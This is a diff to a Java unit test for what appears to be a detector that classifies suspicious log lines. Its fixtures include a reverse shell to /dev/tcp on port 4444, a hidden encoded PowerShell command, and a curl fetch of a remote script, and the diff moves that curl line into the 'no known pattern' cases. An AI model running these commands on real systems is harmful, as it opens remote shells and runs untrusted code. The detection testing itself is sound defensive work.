@@ -65,7 +65,6 @@ class PatternAnalystTest {
                 "{\"entropy\": 7.98, \"size\": 40960} | compressed or encrypted",
                 "encoded run of 4096 characters at byte 12 | encoded layers",
                 "powershell.exe -nop -w hidden -enc SQBFAFgA | run further code",
-                "curl -s http://198.51.100.7/x.sh | run no code",
                 "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 | run further code",
                 "type by content: ELF program | executable program"
             })
@@ -74,10 +73,6 @@ class PatternAnalystTest {
 
         Analysis analysis = SHIPPED.analyse(List.of(Facts.log("all is well"), log), List.of());
 
-        if (cause.contains("no code")) {
-            assertThat(analysis.causes()).isEmpty();
-            return;
-        }
         assertThat(analysis.causes())
                 .filteredOn(found -> found.text().contains(cause))
                 .singleElement()
@@ -97,6 +92,7 @@ class PatternAnalystTest {
                 "the timeout is set to 30 s",
                 "deployed version 5.0.3 of orders; 500 pods ready",
                 "certificate renewed until 2027",
+                "curl -s http://198.51.100.7/x.sh",
                 "disk usage is 40 %"
             })
     void an_honest_answer_is_that_no_pattern_is_known(String text) {
